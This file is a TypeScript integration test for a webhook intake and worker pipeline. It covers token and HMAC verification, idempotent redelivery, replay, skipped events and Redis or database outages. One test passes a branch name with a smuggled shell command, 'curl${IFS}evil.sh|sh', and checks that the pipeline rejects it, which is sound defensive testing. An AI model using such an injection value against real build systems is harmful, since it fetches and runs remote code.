/**
 * The intended controller and worker flow, end to end without HTTP, on the real PostgreSQL and
 * Redis: verify → record (committed) → queue → claim → match bindings → finish; redeliveries,
 * wrong secrets, events that start nothing, unsafe branch names, replay, and Redis being down.
 */
import { createHmac } from 'node:crypto';
import { createPrismaClient, DeliveryStore, EventBindingRepository, WebhookHookRepository, type PrismaClient } from '@slipway/persistence';
import { redisConnection } from '@slipway/queue';
import { createTestDatabase, testRedisPrefix, TEST_REDIS_URL, type TestDatabase } from '@slipway/testing';
import { Queue } from 'bullmq';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { matchBindings } from '../bindings/match-bindings.js';
import { planDelivery } from '../bindings/delivery-plan.js';
import { SecretCipher } from '../secrets/secret-cipher.js';
import { generateWebhookSecret, hashSecret } from '../secrets/secret-hash.js';
import { bindingFromYaml, GITLAB_PUSH_BINDING } from '../testdata/bindings.js';
import { fixture, fixtureJson } from '../testdata/fixtures.js';
import { receiveDelivery, type IntakePorts, type IntakeRequest } from './receive-delivery.js';
import { restoreDelivery } from './restore-delivery.js';

let db: TestDatabase;
let prisma: PrismaClient;
let redis: Redis;
let queue: Queue;
const cipher = new SecretCipher(SecretCipher.generateKey());
const gitlabSecret = generateWebhookSecret();
const githubSecret = generateWebhookSecret();

beforeAll(async () => {
  db = await createTestDatabase('scm_intake');
  prisma = createPrismaClient(db.url);
  redis = redisConnection(TEST_REDIS_URL);
  queue = new Queue('webhook-deliveries', { connection: redis, prefix: testRedisPrefix('scm') });
  const hooks = new WebhookHookRepository(prisma);
  await hooks.create({ provider: 'gitlab', name: 'shop-gitlab', namespace: 'shop', secretHash: hashSecret(gitlabSecret) });
  await hooks.create({ provider: 'gitlab', name: 'ops', namespace: 'ops', secretHash: hashSecret(generateWebhookSecret()) });
  await hooks.create({ provider: 'github', name: 'shop-github', namespace: 'shop', secretCiphertext: cipher.encrypt(githubSecret) });
  const binding = bindingFromYaml(GITLAB_PUSH_BINDING);
  await new EventBindingRepository(prisma).create('shop', binding.metadata.name!, binding);
});
afterAll(async () => {
  await queue?.obliterate({ force: true }).catch(() => undefined);
  await queue?.close();
  redis?.disconnect();
  await prisma?.$disconnect();
  await db?.drop();
});

function ports(enqueueTo: () => Queue = () => queue): IntakePorts {
  const store = new DeliveryStore(prisma);
  const hooks = new WebhookHookRepository(prisma);
  return {
    hooks: (provider, name) => hooks.forVerification(provider, name),
    record: (row) => store.record(row),
    enqueue: async (deliveryId) => {
      await enqueueTo().add('delivery', { deliveryId });
    },
    markQueued: (ids, at) => store.markQueued(ids, at),
    cipher,
  };
}

const gitlabPush = (over: Record<string, unknown> = {}, headers: Record<string, string> = {}): IntakeRequest => ({
  provider: 'gitlab',
  headers: {
    'content-type': 'application/json',
    'x-gitlab-event': 'Push Hook',
    'x-gitlab-token': gitlabSecret,
    'x-gitlab-event-uuid': crypto.randomUUID(),
    'idempotency-key': crypto.randomUUID(),
    ...headers,
  },
  rawBody: Buffer.from(JSON.stringify({ ...fixtureJson('gitlab-push.json'), ...over })),
});

/** What the worker's delivery processor does with a queued delivery id. */
async function processDelivery(deliveryId: string): Promise<void> {
  await prisma.$transaction(async (tx) => {
    const store = new DeliveryStore(tx);
    const row = await store.claim(deliveryId);
    if (!row) return;
    const hook = row.hookId ? await new WebhookHookRepository(tx).get(row.hookId) : undefined;
    const delivery = restoreDelivery(row);
    const bindings = (await new EventBindingRepository(tx).list(row.namespace)).map((b) => b.manifest);
    const plan = planDelivery(delivery, matchBindings(delivery, bindings, { hookName: hook?.name }));
    // Here the worker submits one Workflow per plan.start entry (same transaction), named from the delivery id.
    const workflowIds = plan.start.map((s) => `${s.binding.metadata.name}-${deliveryId.slice(0, 8)}`);
    await store.finish(deliveryId, { outcome: plan.outcome, reason: plan.reason, workflowIds, at: new Date() });
  });
}

const rows = () => prisma.delivery.count();

describe('intake → worker', () => {
  it('a GitLab push: accepted, committed, queued once, started with safe parameters', async () => {
    const req = gitlabPush();
    const res = await receiveDelivery(req, ports());
    expect(res).toMatchObject({ status: 'accepted', duplicate: false, queued: true, hook: { name: 'shop-gitlab', namespace: 'shop' } });
    if (res.status !== 'accepted') return;
    const stored = await new DeliveryStore(prisma).get(res.deliveryId);
    expect(stored).toMatchObject({ provider: 'gitlab', namespace: 'shop', kind: 'push', ref: 'refs/heads/main', outcome: 'received' });
    expect(stored?.headers['x-gitlab-token']).toBe('[redacted]');
    const jobs = await queue.getJobs(['waiting']);
    expect(jobs.filter((j) => j.data.deliveryId === res.deliveryId)).toHaveLength(1);

    await processDelivery(res.deliveryId);
    await processDelivery(res.deliveryId); // a second job for the same delivery does nothing
    expect(await new DeliveryStore(prisma).get(res.deliveryId)).toMatchObject({ outcome: 'started', reason: null, workflowIds: [`orders-push-${res.deliveryId.slice(0, 8)}`] });

    // GitLab retries after a timeout, or someone presses "Resend Request": same Idempotency-Key
    const again = await receiveDelivery(req, ports());
    expect(again).toMatchObject({ status: 'accepted', deliveryId: res.deliveryId, duplicate: true, queued: false });
  });

  it('a wrong or missing token, or another hook\'s route: unauthorized, nothing stored', async () => {
    const before = await rows();
    expect(await receiveDelivery(gitlabPush({}, { 'x-gitlab-token': 'wrong' }), ports())).toEqual({ status: 'unauthorized' });
    const noToken = gitlabPush();
    delete (noToken.headers as Record<string, string>)['x-gitlab-token'];
    expect(await receiveDelivery(noToken, ports())).toEqual({ status: 'unauthorized' });
    expect(await receiveDelivery({ ...gitlabPush(), hookName: 'ops' }, ports())).toEqual({ status: 'unauthorized' });
    expect(await receiveDelivery({ ...gitlabPush(), hookName: 'shop-gitlab' }, ports())).toMatchObject({ status: 'accepted' });
    expect(await rows()).toBe(before + 1);
  });

  it('queueAfterAnswer: resolves once committed, then queues (and marks) the delivery', async () => {
    const res = await receiveDelivery(gitlabPush(), { ...ports(), queueAfterAnswer: true });
    if (res.status !== 'accepted') throw new Error(res.status);
    expect(res).toMatchObject({ duplicate: false, queued: false });
    expect(await new DeliveryStore(prisma).get(res.deliveryId)).toMatchObject({ outcome: 'received' });
    expect(await res.queueing).toBe(true);
    const jobs = await queue.getJobs(['waiting']);
    expect(jobs.filter((j) => j.data.deliveryId === res.deliveryId)).toHaveLength(1);
    await expect.poll(async () => (await new DeliveryStore(prisma).get(res.deliveryId))?.queuedAt).not.toBeNull();
  });

  it('events that start nothing are recorded finished and not queued', async () => {
    const res = await receiveDelivery({ ...gitlabPush(), headers: { ...gitlabPush().headers, 'x-gitlab-event': 'Pipeline Hook' }, rawBody: '{"object_kind":"pipeline"}' }, ports());
    expect(res).toMatchObject({ status: 'accepted', queued: false });
    if (res.status === 'accepted') expect(await new DeliveryStore(prisma).get(res.deliveryId)).toMatchObject({ outcome: 'skipped', reason: 'event "Pipeline Hook" is recorded but starts nothing' });
    const deleted = await receiveDelivery(gitlabPush({ after: '0000000000000000000000000000000000000000', checkout_sha: null }), ports());
    if (deleted.status === 'accepted') expect(await new DeliveryStore(prisma).get(deleted.deliveryId)).toMatchObject({ kind: 'push', outcome: 'skipped', reason: 'branch main was deleted: starts nothing' });
  });

  it('an injection-unsafe branch starts nothing and records why; a replay decides the same', async () => {
    // release/* passes the branch filter; the name is a legal git ref
    const res = await receiveDelivery(gitlabPush({ ref: 'refs/heads/release/x;curl${IFS}evil.sh|sh' }), ports());
    if (res.status !== 'accepted') throw new Error('not accepted');
    await processDelivery(res.deliveryId);
    const stored = await new DeliveryStore(prisma).get(res.deliveryId);
    expect(stored?.outcome).toBe('rejected');
    expect(stored?.reason).toContain('binding orders-push: parameter "branch": event value "release/x;curl${IFS}evil.sh|sh" does not match the default safe pattern');
    expect(stored?.workflowIds).toEqual([]);

    const replay = await new DeliveryStore(prisma).replay(res.deliveryId, new Date());
    await processDelivery(replay!.id);
    expect(await new DeliveryStore(prisma).get(replay!.id)).toMatchObject({ outcome: 'rejected', replayOf: res.deliveryId, reason: stored?.reason });
  });

  it('a signed GitHub delivery through an encrypted secret', async () => {
    const body = Buffer.from(fixture('argo-github-webhook-payload.json'));
    const signature = `sha256=${createHmac('sha256', githubSecret).update(body).digest('hex')}`;
    const headers = { 'x-github-event': 'push', 'x-github-delivery': crypto.randomUUID(), 'x-hub-signature-256': signature, 'content-type': 'application/json' };
    const res = await receiveDelivery({ provider: 'github', headers, rawBody: body }, ports());
    expect(res).toMatchObject({ status: 'accepted', queued: true, hook: { name: 'shop-github' } });
    const tampered = Buffer.from(body.toString().replace('no-response', 'no-responsE'));
    expect(await receiveDelivery({ provider: 'github', headers, rawBody: tampered }, ports())).toEqual({ status: 'unauthorized' });
    if (res.status === 'accepted') {
      await processDelivery(res.deliveryId);
      // the only binding listens to hook shop-gitlab
      expect(await new DeliveryStore(prisma).get(res.deliveryId)).toMatchObject({ outcome: 'skipped', reason: 'no WorkflowEventBinding matched' });
    }
  });

  it('Redis down: still accepted; the sweeper queues it later, and it runs once', async () => {
    const deadRedis = redisConnection('redis://127.0.0.1:1');
    const deadQueue = new Queue('webhook-deliveries', { connection: deadRedis, prefix: testRedisPrefix('dead') });
    deadQueue.on('error', () => undefined);
    const errors: string[] = [];
    try {
      const started = Date.now();
      const res = await receiveDelivery(gitlabPush(), { ...ports(() => deadQueue), enqueueTimeoutMs: 300, onQueueError: (id) => errors.push(id) });
      expect(Date.now() - started).toBeLessThan(2000);
      expect(res).toMatchObject({ status: 'accepted', queued: false });
      if (res.status !== 'accepted') return;
      expect(errors).toEqual([res.deliveryId]);

      // The sweeper, once Redis is back:
      const store = new DeliveryStore(prisma);
      const pending = await store.unqueued(new Date(Date.now() + 1000));
      expect(pending.map((p) => p.id)).toContain(res.deliveryId);
      for (const p of pending) await queue.add('delivery', { deliveryId: p.id });
      await store.markQueued(pending.map((p) => p.id), new Date());
      expect(await store.unqueued(new Date(Date.now() + 1000))).toEqual([]);
      await processDelivery(res.deliveryId);
      expect((await store.get(res.deliveryId))?.outcome).toBe('started');
    } finally {
      await deadQueue.close().catch(() => undefined);
      deadRedis.disconnect();
    }
  });

  it('the database down: the error reaches the caller (answer 503, never 4xx)', async () => {
    const broken: IntakePorts = { ...ports(), record: () => Promise.reject(new Error('connect ECONNREFUSED 127.0.0.1:5432')) };
    await expect(receiveDelivery(gitlabPush(), broken)).rejects.toThrow(/ECONNREFUSED/);
  });
});
